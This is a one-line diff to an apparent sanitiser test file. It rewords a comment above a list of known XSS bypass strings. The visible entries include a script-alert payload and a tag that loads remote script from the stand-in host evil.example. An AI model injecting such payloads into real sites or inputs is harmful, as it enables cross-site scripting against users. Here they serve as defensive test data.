@@ -1,4 +1,4 @@
-/** Strings that have made sanitisers fail, and a few that were made up for this one. */
+/** Known sanitiser bypasses, and a few written for this one. */
 const elements = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
